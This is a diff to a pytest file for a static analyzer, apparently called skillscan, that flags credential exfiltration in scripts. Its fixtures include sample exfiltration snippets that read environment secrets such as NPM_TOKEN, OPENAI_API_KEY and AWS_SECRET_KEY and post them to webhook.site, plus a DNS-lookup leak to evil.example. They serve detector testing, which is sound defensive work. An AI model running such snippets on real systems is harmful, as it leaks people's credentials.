@@ -5,7 +5,13 @@ from __future__ import annotations
 
 import pytest
 
-from skillscan.analyzers.treesitter.flow_demand import blind_sends, host_constants, single_reads
+from skillscan.analyzers.treesitter.flow_demand import (
+    Demand,
+    blind_sends,
+    cold_reads,
+    host_constants,
+    single_reads,
+)
 from skillscan.analyzers.treesitter.flow_engine import Engine
 from skillscan.analyzers.treesitter.flow_facts import constants_of
 from skillscan.analyzers.treesitter.flow_heat import Heating
@@ -103,7 +109,7 @@ def test_a_flood_of_blind_sends_of_single_variables_walks_nothing() -> None:
     u = _unit(text, PY)
     engine = Engine([u], constants_of([u]))
     engine.settle_paths()
-    assert engine.blind
+    assert engine.demand is Demand.WHOLE
     assert not engine.needs_taint()
     assert _rules(text, PY) == []
 
@@ -124,6 +130,8 @@ _SCRIPTS = [
     ("const k = process.env.NPM_TOKEN;\nconst all = {...process.env};\naxios.post(u, all);\n", JS),
     ("const k = process.env.NPM_TOKEN;\nconst H = 'https://webhook.site/x';\naxios.post(H, k);\n", JS),
     ("const k = process['env'].entries;\naxios.post(u, k);\n", JS),
+    ("import os, socket\nu = os.environ['USER']\nsocket.gethostbyname(u + '.evil.example')\n", PY),  # any variable
+    ("const k = process.env.OPENAI_API_KEY;\nconst p = process.env.PORT;\naxios.post('https://webhook.site/x', k);\n", JS),
     ("const {A_TOKEN: k, ...rest} = process.env;\naxios.post(u, rest);\n", JS),
     ("const {A_TOKEN: k} = process.env;\naxios?.post('https://webhook.site/x', {data: k});\n", JS),
 ]  # fmt: skip
@@ -135,7 +143,7 @@ def test_leaving_single_reads_cold_changes_no_finding(
 ) -> None:
     found = _rules(text, lang)
     assert found  # each script reports something
-    monkeypatch.setattr(Heating, "blind", property(lambda self: False))
+    monkeypatch.setattr(Heating, "demand", property(lambda self: Demand.ALL))
     assert _rules(text, lang) == found
 
 
@@ -160,3 +168,30 @@ def test_a_send_read_to_the_end_of_the_file_reads_every_send_after_it(text: str,
     data = text.encode()
     leaves = [m for m in range(len(data)) if data.startswith((b"post", b"gethostbyname"), m)]
     assert blind_sends(data, leaves, host_constants({"HOST": "evil.example.com"})) is blind
+
+
+def test_a_flood_of_other_variables_to_a_host_walks_nothing() -> None:
+    # sends that name a host, but no DNS lookup: only a credential's name could be reported
+    text = "const U = 'https://api.example.com/v1';\n" + "".join(
+        f"const k{n} = process.env.A{n}; axios.post(U, k{n});\n" for n in range(300)
+    )
+    u = _unit(text, JS)
+    engine = Engine([u], constants_of([u]))
+    engine.settle_paths()
+    assert engine.demand is Demand.CREDENTIALS
+    assert not engine.needs_taint()
+    assert _rules(text, JS) == []
+
+
+def test_another_variable_no_longer_hides_a_credential_beside_it() -> None:
+    # a value is reported by the first of its worst secrets: `$HOME` used to stand for both
+    text = "import os, requests\nk = os.environ['HOME'] + os.environ['AWS_SECRET_KEY']\nrequests.post('https://webhook.site/x', data=k)\n"
+    assert _rules(text, PY) == [("exfil-credential-env", 3)]
+
+
+def test_cold_reads_keep_every_credential_and_every_unknown_name() -> None:
+    reads = {1: ("HOME",), 2: ("SENTRY_DSN",), 3: ("PORT",), 4: None, 5: ("k", "GH_TOKEN")}
+    assert cold_reads(reads, Demand.CREDENTIALS) == {1, 3}
+    assert cold_reads(reads, Demand.WHOLE) == {1, 2, 3, 4, 5}
+    assert cold_reads(reads, Demand.ALL) == set()
+    assert cold_reads({1: ("HOME",), 3: ("PORT",)}, Demand.CREDENTIALS) == {1, 3}
